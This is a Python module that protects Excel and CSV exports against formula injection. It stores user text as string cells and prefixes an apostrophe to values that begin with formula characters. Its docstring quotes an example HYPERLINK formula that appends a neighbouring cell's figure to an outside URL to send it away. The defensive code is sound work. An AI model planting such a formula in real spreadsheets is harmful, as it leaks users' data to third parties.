"""Writing what users typed into the workbooks and CSV files they download.

A spreadsheet program runs a cell that starts with ``=`` (and, on import of a CSV,
also ``+``, ``-``, ``@``, a tab or a carriage return) as a formula: a budget line named
``=HYPERLINK("https://…?"&B5,"Mer info")`` would send the figures beside it elsewhere.
Every user-written text is therefore written as data:

- in a workbook, as a string cell (openpyxl itself makes any ``str`` that starts with
  ``=`` a formula);
- in a CSV file, with a leading apostrophe when it starts like a formula (OWASP's advice
  on CSV injection); Excel shows the apostrophe, which tells the reader why.
"""

from openpyxl.cell.cell import Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(sheet, value):
    """``value`` for ``sheet.append``: a string as a string cell, anything else as it is."""
    if not isinstance(value, str):
        return value
    cell = Cell(sheet, value=value)
    cell.data_type = "s"
    return cell


def set_text(cell, value) -> None:
    """Put ``value`` into ``cell``; a string stays a string, never a formula."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"


def safe_csv_value(value):
    """``value`` for a CSV row: a text starting like a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
